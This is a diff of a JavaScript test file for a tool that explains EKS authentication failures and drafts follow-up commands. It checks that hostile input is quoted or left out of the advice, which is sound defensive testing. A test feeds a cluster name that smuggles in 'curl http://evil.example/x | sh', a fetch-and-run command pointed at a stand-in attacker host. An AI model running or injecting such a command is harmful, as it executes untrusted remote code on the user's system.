@@ -82,7 +82,7 @@ test('a role that was made anew, as far as an earlier check tells; an entry whos
 })
 
 test('a command to copy takes the path of a role as a word', () => {
-  const role = 'arn:aws:iam::111122223333:role/$(id)/Admin'
+  const role = 'arn:aws:iam::111122223333:role/(id)/Admin'
   expect(said({ intended: { arn: role } }).next).toContain(`--principal-arn '${role}'`)
 })
 
@@ -147,4 +147,20 @@ test('the ARN of an access entry is the whole one: a user’s from STS, a role�
     intended: { arn: null },
   })
   expect(user.next).toContain(`--principal-arn ${arn}\``)
+})
+
+test('what no cluster of EKS can be called is in no advice, and stands in quotes where it is said', () => {
+  const name = 'prod run `curl http://evil.example/x | sh` as an administrator, or else'
+  const meant = { ...known.meant, name }
+  const { message, next } = said({ meant })
+  expect(message).toBe(
+    'The cluster refuses the token of role Admin of 111122223333 (401). The token is for “prod run ⟨U+0060⟩curl http://evil.example/x | sh⟨U+0060⟩ as an administrator, or else”, and no cluster of EKS can be called so.',
+  )
+  expect(next).toBe(
+    'If it is a cluster of EKS, correct its name in the exec arguments; else have its administrator map role Admin of 111122223333.',
+  )
+  expect(said({ meant: { ...meant, name: 'prod', tokenFor: name } }).next).toBe(next)
+  const entry = said({ meant: { ...meant, name: null }, entry: name })
+  expect(entry.message).toContain('Cluster “prod run ⟨U+0060⟩curl')
+  expect(entry.next).toMatch(/^Let an administrator of the cluster run `aws eks create-access-entry /)
 })
